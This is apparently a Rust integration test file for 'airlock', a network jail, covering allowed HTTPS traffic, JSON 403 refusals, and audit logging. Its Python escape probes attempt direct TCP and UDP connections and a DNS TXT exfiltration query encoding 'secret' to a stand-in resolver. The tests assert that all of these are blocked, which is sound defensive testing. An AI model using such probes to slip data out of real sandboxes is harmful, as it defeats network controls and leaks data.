//! `airlock run` with real clients and no proxy variables: curl and python3 urllib reach a
//! loopback TLS upstream through the jail's transparent capture; a refused host gets the
//! JSON 403 inside TLS; escape attempts (direct IP, an unnamed port, UDP, a DNS TXT
//! exfiltration query) fail and are logged. Every address inside the jail is local, so
//! nothing can leave the machine. `--jail env` reaches the upstream through HTTPS_PROXY.

#[path = "support/run.rs"]
mod run;
mod support;

use run::{RunHome, code, namespaces_available};
use serde_json::Value;
use support::{TestPki, Upstream};

/// The flags that let the command reach `allowed.test:PORT` (the loopback upstream).
fn upstream_flags(pki: &TestPki, upstream: &Upstream, home: &RunHome) -> Vec<String> {
    vec![
        "--resolve".into(),
        "allowed.test:127.0.0.1".into(),
        "--upstream-ca".into(),
        pki.upstream_ca_cert.to_string_lossy().into_owned(),
        "--allow".into(),
        format!("allowed.test:{}", upstream.port()),
        "--log".into(),
        home.log_path().to_string_lossy().into_owned(),
    ]
}

fn run_script(home: &RunHome, flags: &[String], script: &str) -> (i32, String, String) {
    let mut args: Vec<&str> = flags.iter().map(String::as_str).collect();
    args.extend_from_slice(&["--", "sh", "-c", script]);
    let output = home.run(&args);
    let status = code(&output);
    (
        status,
        String::from_utf8_lossy(&output.stdout).into_owned(),
        output.stderr,
    )
}

/// The JSON object printed on the line after `marker`.
fn json_after(stdout: &str, marker: &str) -> Value {
    let mut lines = stdout.lines();
    lines
        .by_ref()
        .find(|l| l.trim() == marker)
        .unwrap_or_else(|| panic!("no {marker} in {stdout}"));
    let body = lines
        .next()
        .unwrap_or_else(|| panic!("nothing after {marker}: {stdout}"));
    serde_json::from_str(body).unwrap_or_else(|e| panic!("not JSON after {marker} ({e}): {stdout}"))
}

#[test]
fn curl_and_python_reach_the_upstream_without_proxy_variables() {
    if !namespaces_available("curl_and_python_reach_the_upstream_without_proxy_variables") {
        return;
    }
    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let home = RunHome::new();
    let port = upstream.port();
    let script = format!(
        "echo CURL; curl -sS --max-time 20 https://allowed.test:{port}/echo/curl; echo; \
         echo PYTHON; python3 -c 'import urllib.request; \
         print(urllib.request.urlopen(\"https://allowed.test:{port}/echo/python\", timeout=20).read().decode())'; \
         env | grep -ci proxy || true"
    );
    let (status, stdout, stderr) =
        run_script(&home, &upstream_flags(&pki, &upstream, &home), &script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    assert_eq!(
        json_after(&stdout, "CURL")["path"],
        "/echo/curl",
        "{stdout}"
    );
    assert_eq!(
        json_after(&stdout, "PYTHON")["path"],
        "/echo/python",
        "{stdout}"
    );
    assert_eq!(
        stdout.lines().last(),
        Some("0"),
        "no proxy variable inside: {stdout}"
    );
    assert_eq!(upstream.hit_count(), 2, "{stderr}");
    let allowed: Vec<Value> = home
        .audit_lines()
        .into_iter()
        .filter(|l| l["kind"] == "http" && l["decision"] == "allow")
        .collect();
    assert_eq!(allowed.len(), 2, "{allowed:?}");
    for line in allowed {
        assert_eq!(line["host"], "allowed.test", "{line}");
        assert_eq!(line["port"], port, "{line}");
        assert_eq!(line["scheme"], "https", "{line}");
    }
}

#[test]
fn a_refused_host_gets_the_json_403_inside_tls() {
    if !namespaces_available("a_refused_host_gets_the_json_403_inside_tls") {
        return;
    }
    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let home = RunHome::new();
    let script = "echo REFUSED; curl -sS --max-time 20 https://refused.example/secret?k=v; echo";
    let (status, stdout, stderr) =
        run_script(&home, &upstream_flags(&pki, &upstream, &home), script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    let body = json_after(&stdout, "REFUSED");
    assert_eq!(body["error"], "blocked_by_policy", "{body}");
    assert_eq!(body["reason"], "host_not_allowed", "{body}");
    assert_eq!(body["host"], "refused.example", "{body}");
    upstream.assert_untouched("a refused host");
    let lines = home.audit_lines();
    assert!(
        lines.iter().any(|l| l["kind"] == "http"
            && l["decision"] == "deny"
            && l["host"] == "refused.example"
            && l["reason"] == "host_not_allowed"),
        "{lines:?}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l["kind"] == "dns" && l["name"] == "refused.example"),
        "{lines:?}"
    );
    assert!(
        stderr.contains("1 request refused (refused.example ×1)"),
        "summary line: {stderr}"
    );
}

/// Python probes: TCP to a port no rule names, UDP 443, and a DNS TXT query for an
/// exfiltration name sent to an outside resolver address.
const ESCAPE_PROBES: &str = r#"
import socket, struct
s = socket.socket()
s.settimeout(5)
try:
    s.connect(("203.0.113.9", 2222)); print("TCP2222=connected")
except OSError as e:
    print("TCP2222=refused")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(1)
try:
    u.sendto(b"quic-initial", ("198.51.100.1", 443)); u.recvfrom(2048); print("UDP443=answered")
except OSError:
    print("UDP443=nothing")
name = b"".join(bytes([len(p)]) + p for p in b"c2VjcmV0.exfil.example".split(b".")) + b"\0"
query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1)
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
d.settimeout(5)
d.sendto(query, ("192.0.2.53", 53))
reply, source = d.recvfrom(4096)
print("DNS=id%x rcode%d answers%d from%s" % (struct.unpack(">H", reply[:2])[0], reply[3] & 15, struct.unpack(">H", reply[6:8])[0], source[0]))
"#;

#[test]
fn escape_attempts_fail_and_are_logged() {
    if !namespaces_available("escape_attempts_fail_and_are_logged") {
        return;
    }
    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let home = RunHome::new();
    let probes = home.scratch().join("probes.py");
    std::fs::write(&probes, ESCAPE_PROBES).expect("write probes");
    let script = format!(
        "echo DIRECT; curl -sS --max-time 20 https://203.0.113.9/; echo; python3 {}",
        probes.display()
    );
    let (status, stdout, stderr) =
        run_script(&home, &upstream_flags(&pki, &upstream, &home), &script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    let direct = json_after(&stdout, "DIRECT");
    assert_eq!(direct["error"], "blocked_by_policy", "{direct}");
    assert_eq!(direct["host"], "203.0.113.9", "{direct}");
    assert!(stdout.contains("TCP2222=refused"), "{stdout}");
    assert!(stdout.contains("UDP443=nothing"), "{stdout}");
    assert!(
        stdout.contains("DNS=id1234 rcode0 answers0 from192.0.2.53"),
        "the TXT query is answered locally and empty: {stdout}"
    );
    upstream.assert_untouched("escape attempts");
    let lines = home.audit_lines();
    assert!(
        lines
            .iter()
            .any(|l| l["decision"] == "deny" && l["host"] == "203.0.113.9" && l["port"] == 443),
        "{lines:?}"
    );
    assert!(
        lines.iter().any(|l| l["kind"] == "dns"
            // Logged canonical (lower-case), as every host in the log is.
            && l["name"] == "c2vjcmv0.exfil.example"
            && l["qtype"] == "TXT"),
        "{lines:?}"
    );
}

#[test]
fn env_mode_reaches_the_upstream_through_https_proxy() {
    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let home = RunHome::new();
    let mut flags = upstream_flags(&pki, &upstream, &home);
    flags.extend(["--jail".to_owned(), "env".to_owned()]);
    let script = format!(
        "echo CURL; curl -sS --max-time 20 https://allowed.test:{}/echo/env; echo",
        upstream.port()
    );
    let (status, stdout, stderr) = run_script(&home, &flags, &script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    assert_eq!(json_after(&stdout, "CURL")["path"], "/echo/env", "{stdout}");
    assert!(stderr.contains("advisory"), "{stderr}");
    assert_eq!(upstream.hit_count(), 1);
}
